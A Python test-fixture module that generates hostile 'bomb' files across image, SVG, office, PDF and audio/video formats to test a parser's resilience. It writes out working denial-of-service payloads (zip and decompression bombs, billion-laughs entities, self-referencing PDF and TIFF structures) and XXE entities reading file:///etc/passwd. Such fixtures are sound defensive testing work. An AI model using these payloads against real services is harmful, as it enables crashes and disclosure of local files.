"""Files that are made to hurt; bombs() lists them."""
import base64
import gzip
import pathlib
import struct
import zlib

from containers import (GOOD_XML, WORDML, box, chunk, docx, element, full_box, in_jpeg, matroska, midi, note, one_page,
                        pcm_track, pdf, picture_grid, png, profile, score, small_picture, squeezed, stream, svg, tiff,
                        use_tree, zipped)

LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + ''.join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(11)) + ']>'
LAST = '&l;'


def forty_hours(mp4):
    """A real MP4 whose headers (version 0 boxes: mvhd, tkhd, mdhd) say forty hours."""
    data = bytearray(mp4)
    for kind, scale_at, duration_at in ((b'mvhd', 12, 16), (b'mdhd', 12, 16), (b'tkhd', None, 20)):
        at = data.find(kind)
        while at >= 0:
            scale = struct.unpack('>I', data[at + 4 + scale_at:at + 8 + scale_at])[0] if scale_at else 1000
            value = min(40 * 3600 * scale, 0xfffffffe)
            data[at + 4 + duration_at:at + 8 + duration_at] = struct.pack('>I', value)
            at = data.find(kind, at + 4)
    return bytes(data)


def jpeg_as_large_as_can_be(jpeg):
    data = bytearray(jpeg)
    at = next(i for i in range(len(data) - 9) if data[i] == 0xff and data[i + 1] in (0xc0, 0xc2))
    data[at + 5:at + 9] = b'\xff\xff\xff\xff'
    return bytes(data)


def a_frame():
    """An MPEG-1 layer 3 frame of 417 bytes, silent."""
    return b'\xff\xfb\x90\0' + b'\0' * 413


def id3(frames, size=None):
    n = len(frames) if size is None else size
    return b'ID3\4\0\0' + bytes(n >> shift & 127 for shift in (21, 14, 7, 0)) + frames


def flac(samples, more=b''):
    """One whose STREAMINFO claims so many samples, and then nothing."""
    about = struct.pack('>HH', 4096, 4096) + b'\0' * 6 + struct.pack('>Q', 8000 << 44 | 15 << 36 | samples) + b'\0' * 16
    return b'fLaC' + (b'\0' if more else b'\x80') + struct.pack('>I', len(about))[1:] + about + more


def samples_without_end(mp4):
    """A real MP4 whose sample tables (stsz, stts) each claim four billion entries."""
    data = bytearray(mp4)
    for kind, at in ((b'stsz', 12), (b'stts', 8), (b'stsc', 8), (b'stco', 8), (b'ctts', 8)):
        place = data.find(kind)
        while place >= 0:
            data[place + at:place + at + 4] = b'\xff\xff\xff\xfe'
            place = data.find(kind, place + 4)
    return bytes(data)


def one_size_for_all(mp4):
    """A real MP4 whose samples are all of one byte, and two billion of them."""
    data = bytearray(mp4)
    place = data.find(b'stsz')
    while place >= 0:
        data[place + 8:place + 16] = struct.pack('>II', 1, 0x7fffffff)
        place = data.find(b'stsz', place + 4)
    place = data.find(b'stts')
    while place >= 0:
        data[place + 8:place + 16] = struct.pack('>II', 1, 0x7fffffff)
        place = data.find(b'stts', place + 4)
    return bytes(data)


def nested(kind, depth):
    data = b''
    for _ in range(depth):
        data = box(kind, data)
    return data


def object_streams_that_loop():
    """Cross-reference stream (ISO 32000-1, 7.5.8): each object stream lies within the other."""
    out = bytearray(b'%PDF-1.7\n')
    start = len(out)
    rows = b''.join(struct.pack('>BIB', *row) for row in
                    [(0, 0, 255), (2, 4, 0), (2, 5, 0), (2, 4, 1), (2, 5, 1), (2, 4, 2), (1, start, 0)])
    out += b'6 0 obj\n' + stream('/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R', rows) + b'\nendobj\n'
    return bytes(out) + f'startxref\n{start}\n%%EOF\n'.encode()


def xref_that_loops():
    good = pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])
    at = good.index(b'xref\n')
    return good.replace(b'/Root 1 0 R', b'/Root 1 0 R /Prev %d /XRefStm %d' % (at, at))


def tree_of_pages(depth):
    """Each node names the next one twice: 2^depth pages, one object a level."""
    nodes = [f'<< /Type /Pages /Parent {i + 1} 0 R /Kids [{i + 3} 0 R {i + 3} 0 R] /Count {2 ** (depth - i)} >>'
             for i in range(depth)]
    return pdf(['<< /Type /Catalog /Pages 2 0 R >>', *nodes, '<< /Type /Page /MediaBox [0 0 9 9] >>'])


def epub(chapter, spine=1, package=''):
    item = '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>'
    return zipped([
        ('mimetype', 'application/epub+zip'),
        ('META-INF/container.xml', GOOD_XML + '<container><rootfiles><rootfile full-path="b.opf"/></rootfiles></container>'),
        ('b.opf', GOOD_XML + package + f'<package><metadata/><manifest>{item}</manifest><spine>'
         + '<itemref idref="a"/>' * spine + '</spine></package>'),
        ('a.xhtml', chapter)])


def odt(content):
    return zipped([('mimetype', 'application/vnd.oasis.opendocument.text'), ('content.xml', content)])


def packet(body, doctype=''):
    return ('<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>' + doctype + '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
            '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">' + body
            + '</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>').encode()


def with_packet(jpeg, xmp):
    return in_jpeg(jpeg, 0xe1, b'http://ns.adobe.com/xap/1.0/\0' + xmp)


def with_profile(jpeg, icc):
    return in_jpeg(jpeg, 0xe2, b'ICC_PROFILE\0\1\1' + icc)


def with_exif(jpeg, tiff_bytes):
    return in_jpeg(jpeg, 0xe1, b'Exif\0\0' + tiff_bytes)


def gif_frames(n):
    """A GIF (89a) of 8 x 8 pixels and n frames, each shown for a hundredth of a second."""
    frame = b'!\xf9\4\0\1\0\0\0,\0\0\0\0\x08\0\x08\0\0\2\7\x84\x8f\xa9\xcb\xed\x0f\x53\0'
    return b'GIF89a\x08\0\x08\0\x80\0\0\0\0\0\xff\xff\xff' + frame * n + b';'


def pictures(jpeg, avif, heic):
    yield '60000 x 60000.png', lambda: png(60000, 60000, 1, 0, squeezed(430))
    yield 'interlaced, nearly a gigapixel.png', lambda: png(31000, 31000, 8, 2, squeezed(64), interlace=1)
    yield 'a text that grows.png', lambda: png(8, 8, 1, 0, zlib.compress(b'\0\0' * 8),
                                       extra=chunk(b'zTXt', b'Comment\0\0' + squeezed(300, b'a')))
    yield 'a profile that grows.png', lambda: png(8, 8, 1, 0, zlib.compress(b'\0\0' * 8),
                                          extra=chunk(b'iCCP', b'x\0\0' + squeezed(300)))
    yield 'as large as can be.jpg', lambda: jpeg_as_large_as_can_be(jpeg)
    yield 'endless frames.gif', lambda: (b'GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff'
                                 + b',\0\0\0\0\xff\xff\xff\xff\0\2\2\x4c\1\0' * 20000 + b';')
    yield '100,000 frames.gif', lambda: gif_frames(100000)
    yield 'a directory that follows itself.tif', lambda: tiff((small_picture(), 0))
    yield 'directories that loop.tif', lambda: tiff((small_picture(), 1), (small_picture(), 2), (small_picture(), 1))
    yield 'many pages.tif', lambda: tiff(*[(small_picture(), i + 1 if i < 29999 else None) for i in range(30000)])
    yield 'wide.tif', lambda: tiff((small_picture(_256=(4, 1, 0xffffffff), _257=(4, 1, 0xffffffff)), None))
    yield 'strips without end.tif', lambda: tiff((small_picture(_273=(4, 0x7fffffff, 8), _279=(4, 0x7fffffff, 8)), None))
    yield 'directories within themselves.tif', lambda: tiff((small_picture(_330=(4, 1, 8), _34665=(4, 1, 8), _34853=(4, 1, 8)), None))
    yield 'directories within themselves.dng', lambda: tiff((small_picture(_330=(4, 1, 8), _50706=(1, 4, 1025)), None))
    yield 'EXIF that loops.jpg', lambda: with_exif(jpeg, tiff(([(34665, 4, 1, 8), (34853, 4, 1, 8), (40965, 4, 1, 8)], 0)))
    yield 'EXIF without end.jpg', lambda: with_exif(jpeg, tiff(([(270, 2, 0xffffffff, 8), (37500, 7, 0x7fffffff, 8),
                                                           (34665, 4, 0x40000000, 8)], None)))
    yield 'laughs in its XMP.jpg', lambda: with_packet(jpeg, packet(f'<dc:format>{LAST}</dc:format>', LAUGHS))
    yield 'other files in its XMP.jpg', lambda: with_packet(jpeg, packet('<dc:format>&a;</dc:format>',
                                                            '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'))
    yield 'deep in its XMP.jpg', lambda: with_packet(jpeg, packet('<dc:a rdf:parseType="Resource">' * 1900))
    yield 'a broken profile.jpg', lambda: with_profile(jpeg, b'\xff' * 4000)
    yield 'a profile with tags without end.jpg', lambda: with_profile(
        jpeg, profile(([(b'rTRC', 0xfffffff0, 0xffffffff)] * 300, b''), size=0xffffffff))
    yield 'a profile with a curve without end.jpg', lambda: with_profile(jpeg, profile(
        ([(name, 216, 4000) for name in (b'rTRC', b'gTRC', b'bTRC', b'rXYZ', b'gXYZ', b'bXYZ', b'A2B0')],
         b'curv\0\0\0\0\x7f\xff\xff\xff' + b'\0' * 3988)))
    yield 'a profile with a table without end.jpg', lambda: with_profile(jpeg, profile(
        ([(b'A2B0', 144, 8000)], b'mft2\0\0\0\0\x0f\x0f\xff\0' + b'\0' * 36 + b'\xff' * 7952)))
    yield 'a profile of another space.jpg', lambda: with_profile(jpeg, profile(([], b''), space=b'CMYK'))
    yield 'a grid of huge tiles.avif', lambda: picture_grid(avif, 255, 255, 0xffffffff, 0xffffffff)
    yield 'a grid of many tiles.avif', lambda: picture_grid(avif, 20, 20, 30000, 20000)
    yield 'a grid of huge tiles.heic', lambda: picture_grid(heic, 255, 255, 0xffffffff, 0xffffffff)
    yield 'a grid of many tiles.heic', lambda: picture_grid(heic, 20, 20, 30000, 20000)
    yield 'a size that is not its own.avif', lambda: avif.replace(b'ispe' + b'\0' * 6, b'ispe\0\0\0\0\x7f\xff')
    yield 'a grid within itself.avif', lambda: picture_grid(avif, 4, 4, 6000, 4000).replace(
        b'\0\1\0\x10' + b'\0\2' * 16, b'\0\1\0\x10' + b'\0\1' * 16)
    yield 'as large as can be.webp', lambda: (b'RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0\x2f\xff\xff\xff\x0f' + b'\0' * 13)
    yield 'animated without end.webp', lambda: (
        b'RIFF\xff\xff\xff\x7fWEBPVP8X\n\0\0\0\2\0\0\0\xff\xff\xff\xff\xff\xffANIM\6\0\0\0\0\0\0\0\0\0'
        + (b'ANMF\x2a\0\0\0' + b'\0' * 6 + b'\xff\xff\xff\xff\xff\xff' + b'\1\0\0\0VP8L\x11\0\0\0\x2f\xff\xff\xff\x0f' + b'\0' * 14) * 5000)
    yield 'as large as can be.jxl', lambda: b'\xff\x0a' + b'\xf9\xff\xff\xff\xff\xff\xff\xff\xff' + b'\0' * 99
    yield 'wide.psd', lambda: b'8BPS\0\1' + b'\0' * 6 + struct.pack('>HIIHH', 3, 30000, 30000, 8, 3) + b'\0' * 12 + b'\0\1' + b'\0' * 99


def sidecars():
    """XMP beside a picture."""
    yield 'laughs.png.xmp', lambda: packet(f'<dc:format>{LAST}</dc:format>', LAUGHS)
    yield 'other files.png.xmp', lambda: packet('<dc:format>&a;</dc:format>', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
    yield 'deep.png.xmp', lambda: packet('<dc:a rdf:parseType="Resource">' * 100000)
    yield 'large.png.xmp', lambda: packet(' ' * (20 << 20))
    yield 'many words.png.xmp', lambda: packet('<dc:subject><rdf:Bag>' + '<rdf:li>word</rdf:li>' * 200000 + '</rdf:Bag></dc:subject>')


def drawings():
    """SVG."""
    yield 'outside.svg', lambda: svg('<text>&a;</text>', doctype='<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
    yield 'laughs.svg', lambda: svg('<text>' + LAST + '</text>', doctype=LAUGHS.replace('DOCTYPE x', 'DOCTYPE svg'))
    yield 'a tree of copies.svg', lambda: svg(use_tree(12))
    yield 'eats itself.svg', lambda: svg('<g id="a"><use xlink:href="#a"/></g><pattern id="p"><rect fill="url(#p)"/></pattern>')
    yield 'other files.svg', lambda: svg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'
                                 '<image xlink:href="http://127.0.0.1:9/x.png" width="9" height="9"/>')
    yield 'immense.svg', lambda: svg('<rect width="100%" height="100%"/>', size='width="1e9" height="1e9"')
    yield 'blurred.svg', lambda: svg('<filter id="f" width="9" height="9"><feGaussianBlur stdDeviation="1e6"/></filter>'
                             + '<rect width="9e3" height="9e3" filter="url(#f)"/>' * 50, size='width="9000" height="9000"')
    yield 'deep.svg', lambda: svg('<g>' * 200000)
    yield 'attributes.svg', lambda: svg('<g ' + ' '.join(f'a{i}=""' for i in range(15000)) + '/>')
    yield 'compressed.svgz', lambda: gzip.compress(svg(' ' * (300 << 20)), 1)
    yield 'a picture inside that grows.svg', lambda: svg('<image width="9" height="9" xlink:href="data:image/png;base64,'
        + base64.b64encode(png(30000, 30000, 8, 2, squeezed(64))).decode() + '"/>')
    yield 'itself inside.svg', lambda: svg('<image width="9" height="9" xlink:href="data:image/svg+xml;base64,' + base64.b64encode(
        svg('<image width="9" height="9" xlink:href="data:image/svg+xml,%3Csvg/%3E"/>')).decode() + '"/>')
    yield 'dashes without end.svg', lambda: svg('<path d="M0 0 L1e7 1e7" stroke="red" stroke-dasharray="1e-4"/>')


def overlapping(good, n):
    """A zip whose directory names its first entry n times."""
    end = good.rindex(b'PK\5\6')
    start = good.index(b'PK\1\2')
    second = good.index(b'PK\1\2', start + 4)
    tail = struct.pack('<4sHHHHIIH', b'PK\5\6', 0, 0, n, n, n * (second - start) + end - second, start, 0)
    return good[:start] + good[start:second] * n + good[second:end] + tail


def books():
    """Documents in zip containers, HTML and text."""
    space = [b' ' * (1 << 20)] * 300
    yield 'a zip bomb inside.docx', lambda: docx([(GOOD_XML + f'<w:document {WORDML}><w:body>').encode(), *space,
                                          b'</w:body></w:document>'])
    yield 'laughs.docx', lambda: docx(GOOD_XML + LAUGHS + f'<w:document {WORDML}><w:body><w:p><w:r><w:t>{LAST}</w:t></w:r></w:p>'
                              '</w:body></w:document>')
    yield 'deep.docx', lambda: docx(GOOD_XML + f'<w:document {WORDML}><w:body>' + '<w:p>' * 300000)
    yield 'a zip bomb inside.odt', lambda: zipped([('mimetype', 'application/vnd.oasis.opendocument.text'),
                                           ('content.xml', [b'<?xml version="1.0"?><x>', *space, b'</x>'])])
    yield 'a zip bomb inside.epub', lambda: zipped([
        ('mimetype', 'application/epub+zip'),
        ('META-INF/container.xml', [b'<?xml version="1.0"?><container>', *space, b'</container>'])])
    yield 'many entries.docx', lambda: zipped([(f'word/{i}.xml', b'') for i in range(20000)])
    yield 'attributes.docx', lambda: docx(GOOD_XML + f'<w:document {WORDML} ' + ' '.join(f'a{i}=""' for i in range(15000)) + '/>')
    yield 'laughs.odt', lambda: odt(GOOD_XML + LAUGHS + f'<x><p>{LAST}</p></x>')
    yield 'other files.odt', lambda: odt(GOOD_XML + '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x><p>&a;</p></x>')
    yield 'deep.odt', lambda: odt(GOOD_XML + '<x>' * 100000)
    yield 'blanks.odt', lambda: odt(GOOD_XML + '<x xmlns:text="t"><p>' + '<text:s text:c="99999999"/>' * 100000 + '</p></x>')
    yield 'laughs.epub', lambda: epub('<html/>', package=LAUGHS)
    yield 'deep.epub', lambda: epub('<html><body>' + '<div>' * 200000)
    yield 'a chapter that comes again.epub', lambda: epub('<html><body>' + '<i></i>' * 100000 + '</body></html>', spine=5000)
    yield 'entries that overlap.docx', lambda: overlapping(docx(GOOD_XML + f'<w:document {WORDML}/>'), 5000)
    yield 'deep.html', lambda: b'<!doctype html>' + b'<div>' * 500000 + b'x'
    yield 'marks that come again.html', lambda: b'<!doctype html>' + b''.join(
        b'<b id=%d><p>' % i for i in range(9000)) + b'<p>x' * 100000
    yield 'attributes.html', lambda: b'<!doctype html><p ' + b' '.join(b'a%d' % i for i in range(25000)) + b'>x'
    yield 'tables.html', lambda: b'<table>' * 9000 + b'x' * 100000
    yield 'brackets.md', lambda: b'# x\n' + b'[' * 1000000
    yield 'front matter without end.md', lambda: b'---\n' + b'tags: [a]\n- b\n' * 1000000
    yield 'one line.txt', lambda: b'word ' * 8000000
    yield 'marks upon marks.txt', lambda: b'a' + '\u0301'.encode() * 2000000
    yield 'right to left.txt', lambda: ('\u202e\u2066' * 200000 + 'x').encode()


def pages():
    """PDF."""
    yield 'pages that loop.pdf', lambda: pdf(['<< /Type /Catalog /Pages 2 0 R >>',
                                      '<< /Type /Pages /Kids [2 0 R 2 0 R] /Parent 2 0 R /Count 99999999 >>'])
    yield 'a form that draws itself.pdf', lambda: one_page('<< /XObject << /X 5 0 R >> >>', b'/X Do', [
        stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>', b'/X Do /X Do')])
    yield 'a stream that grows.pdf', lambda: one_page('<< >>', b'', [stream('/Filter /FlateDecode', squeezed(300))])
    yield 'content that grows.pdf', lambda: pdf([
        '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>',
        stream('/Filter /FlateDecode', squeezed(200, b'0 0 m 9 9 l S\n'[:1]))])
    yield 'a picture that fills the memory.pdf', lambda: one_page(
        '<< /XObject << /X 5 0 R >> >>', b'500 0 0 500 0 0 cm /X Do',
        [stream('/Type /XObject /Subtype /Image /Width 25000 /Height 25000 /BitsPerComponent 8 /ColorSpace /DeviceGray '
                '/Filter /FlateDecode', squeezed(600))])
    yield 'endless drawing.pdf', lambda: one_page('<< >>', b'0 0 m ' + b'600 800 l 0 0 l ' * 400000 + b'S')
    yield 'a page as wide as the sea.pdf', lambda: pdf([
        '<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9] >>'])
    yield 'objects that loop.pdf', lambda: object_streams_that_loop()
    yield 'tables that loop.pdf', lambda: xref_that_loops()
    yield 'a tree of pages.pdf', lambda: tree_of_pages(30)
    yield 'a length that loops.pdf', lambda: one_page('<< >>', b'', [
        b'<< /Length 5 0 R >>\nstream\nx\nendstream']).replace(b'/Contents 4 0 R', b'/Contents 5 0 R')
    yield 'a pattern of itself.pdf', lambda: one_page(
        '<< /Pattern << /P 5 0 R >> >>', b'/Pattern cs /P scn 0 0 600 800 re f', [
            stream('/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 '
                   '/Resources << /Pattern << /P 5 0 R >> >>', b'/Pattern cs /P scn 0 0 9 9 re f')])
    yield 'a mask of itself.pdf', lambda: one_page(
        '<< /ExtGState << /G 5 0 R >> >>', b'/G gs 0 0 600 800 re f', [
            '<< /Type /ExtGState /SMask << /S /Luminosity /G 6 0 R >> >>',
            stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Group << /S /Transparency /CS /DeviceGray >> '
                   '/Resources << /ExtGState << /G 5 0 R >> >>', b'/G gs 0 0 9 9 re f')])
    yield 'a letter of itself.pdf', lambda: one_page(
        '<< /Font << /F 5 0 R >> >>', b'BT /F 9 Tf (a) Tj ET', [
            '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 '
            '/Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>',
            stream('', b'9 0 d0 BT /F 9 Tf (aa) Tj ET')])
    yield 'forms in forms.pdf', lambda: one_page('<< /XObject << /X 5 0 R >> >>', b'/X Do', [
        stream(f'/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {i + 1} 0 R >> >>', b'/X Do ' * 10)
        for i in range(5, 25)])
    yield 'filters upon filters.pdf', lambda: one_page('<< >>', b'', [stream('/Filter [' + '/ASCIIHexDecode ' * 100000 + ']', b'0>')]
                                                       ).replace(b'/Contents 4 0 R', b'/Contents 5 0 R')
    yield 'deep.pdf', lambda: pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids ' + '[' * 500000])
    yield 'a shading without end.pdf', lambda: one_page(
        '<< /Shading << /S 5 0 R >> >>', b'/S sh', [
            '<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [-1e9 1e9 -1e9 1e9] /Matrix [1e-9 0 0 1e-9 0 0] /Function 6 0 R >>',
            stream('/FunctionType 4 /Domain [-1e9 1e9 -1e9 1e9] /Range [0 1 0 1 0 1]', b'{ ' + b'sin cos ' * 5000 + b'0 }')])


def sounds_and_scores(mp4):
    yield 'forty hours.mp4', lambda: forty_hours(mp4)
    yield 'samples without end.mp4', lambda: samples_without_end(mp4)
    yield 'one size for all.mp4', lambda: one_size_for_all(mp4)
    yield 'forty hours.m4a', lambda: forty_hours(mp4).replace(b'ftypisom', b'ftypM4A ')
    yield 'boxes in boxes.mp4', lambda: box(b'ftyp', b'isom\0\0\2\0isom') + nested(b'moov', 3000)
    yield 'many tracks.mp4', lambda: box(b'ftyp', b'isom\0\0\2\0isom') + box(b'moov', box(b'trak', box(b'mdia')) * 50000)
    yield 'pieces without end.mp4', lambda: (box(b'ftyp', b'iso5\0\0\2\0iso5') + box(b'moov', full_box(b'mvhd', 0, b'\0' * 96))
        + box(b'moof', box(b'traf', full_box(b'tfhd', 0, b'\0\0\0\1'), full_box(b'trun', 0, b'\xff' * 4))) * 20000)
    yield 'forty hours.mkv', lambda: matroska(40 * 3600 * 1000, pcm_track(), element('1f43b675', element('e7', b'\0') + element(
        'a3', b'\x81\0\0\x80' + b'\0' * 1600)))
    yield 'a number that is none.mkv', lambda: matroska(float('nan'), pcm_track())
    yield 'longer than the sun.mkv', lambda: matroska(1e300, pcm_track(), element('1f43b675', element('e7', b'\xff' * 8) + element(
        'a3', b'\x81\x7f\xff\x80' + b'\0' * 1600)))
    yield 'elements in elements.mkv', lambda: matroska(1, pcm_track(), element('1254c367', element('7373', bytes.fromhex(
        '67c8') * 100000)))
    yield 'sizes beyond all.mkv', lambda: matroska(1, pcm_track(), element('1941a469', element('61a7', b'', 1 << 55), 1 << 55))
    yield 'forty hours.mp3', lambda: (a_frame()[:36] + b'Xing\0\0\0\3' + struct.pack('>II', 40 * 3600 * 38, 0x7fffffff)
                                      ).ljust(417, b'\0') + a_frame() * 20
    yield 'forty hours.flac', lambda: flac(40 * 3600 * 8000)
    yield 'a cover without end.flac', lambda: flac(8000, b'\x86\0\0\x2a' + struct.pack('>II', 3, 10) + b'image/jpeg'
                                                   + struct.pack('>IIIIII', 0, 65535, 65535, 24, 0, 0x7fffffff))
    yield 'comments without end.flac', lambda: flac(8000, b'\x84\0\0\x0c' + struct.pack('<III', 4, 0x41414141, 0xffffffff))
    yield 'a tag without end.mp3', lambda: id3(b'', (1 << 28) - 1) + a_frame() * 20
    yield 'a tag that grows.mp3', lambda: id3(b'TIT2' + struct.pack('>I', 0) + b'\0\x09') + id3(
        (lambda data: b'TIT2' + bytes(len(data) >> shift & 127 for shift in (21, 14, 7, 0)) + b'\0\x09' + data)(
            b'\x7f\x7f\x7f\x7f' + squeezed(200, b'a'))) + a_frame() * 20
    yield 'many tags.mp3', lambda: id3(b'TXXX\0\0\0\x05\0\0\0a\0b\0' * 500000) + a_frame() * 20
    yield 'a page without end.ogg', lambda: (b'OggS\0\2' + b'\xff' * 7 + b'\x7f' + b'\1\0\0\0' + b'\0' * 8 + b'\1\x1e\1vorbis'
        + struct.pack('<IBIIIIBB', 0, 255, 0xffffffff, 0, 0, 0, 0xb8, 1)) + b'OggS\0\1' + b'\xff' * 300
    yield 'many frames.avi', lambda: (b'RIFF\xff\xff\xff\x7fAVI LIST\xc0\0\0\0hdrlavih\x38\0\0\0'
        + struct.pack('<14I', 1, 0, 0, 0x10, 0xffffffff, 0, 1, 0, 0xffff, 0xffff, 0, 0, 0, 0)
        + b'LIST\x74\0\0\0strlstrh\x38\0\0\0vidsMJPG' + struct.pack('<12I', 0, 0, 0, 1, 0xffffffff, 0, 0xffffffff, 0, 0, 0, 0, 0)
        + b'strf\x28\0\0\0' + struct.pack('<IiiHH4sIiiII', 40, 0x7fffffff, 0x7fffffff, 1, 24, b'MJPG', 0, 0, 0, 0, 0)
        + b'LIST\x04\0\0\0movi')
    yield 'forty hours.wav', lambda: (b'RIFF\xff\xff\xff\xffWAVEfmt ' + struct.pack('<IHHIIHH', 16, 1, 1, 8000, 8000, 1, 8)
                              + b'data' + struct.pack('<I', 40 * 3600 * 8000) + b'\x80' * 8000)
    yield 'no sample rate.wav', lambda: (b'RIFF\x30\0\0\0WAVEfmt ' + struct.pack('<IHHIIHH', 16, 1, 65535, 0xffffffff, 1, 0, 0)
                                 + b'data\xff\xff\xff\xff' + b'\0' * 64)
    yield '2^31 ticks.mid', lambda: midi(96, b'\0\x90\x40\x40' + b'\xff\xff\xff\x7f\xb0\1\1' * 9 + b'\0\x80\x40\0')
    yield 'a tick an hour.mid', lambda: midi(1, b'\0\xff\x51\3\xff\xff\xff\0\x90\x40\x40' + b'\xff\xff\xff\x7f\xb0\1\1' * 90)
    yield 'no division.mid', lambda: midi(0, b'\0\x90\x40\x40\x10\x80\x40\0')
    yield 'many notes.mid', lambda: midi(96, b'\0\x90\x40\x40\0\x80\x40\0' * 400000)
    yield 'long.musicxml', lambda: score(note(2 ** 31) * 3)
    yield 'laughs.musicxml', lambda: score(note(LAST), LAUGHS.replace('DOCTYPE x', 'DOCTYPE score-partwise'))
    yield 'many measures.musicxml', lambda: score(note(4) * 100000)
    yield 'a zip bomb inside.mxl', lambda: zipped([('META-INF/container.xml', '<container><rootfiles><rootfile full-path="a.xml"/>'
                                            '</rootfiles></container>'), ('a.xml', [b' ' * (1 << 20)] * 300)])


def bombs(samples):
    """(name, function that makes its bytes) of every bomb; samples: the folder of real files that some are made from."""
    samples = pathlib.Path(samples)
    jpeg = (samples / 'to sort' / 'ridge for the web.jpg').read_bytes()
    avif = (samples / 'pictures' / 'Where the wind goes.avif').read_bytes()
    heic = (samples / 'pictures' / '雨后竹.heic').read_bytes()
    mp4 = (samples / 'film' / 'Tide.mp4').read_bytes()
    yield from pictures(jpeg, avif, heic)
    yield from sidecars()
    yield from drawings()
    yield from books()
    yield from pages()
    yield from sounds_and_scores(mp4)
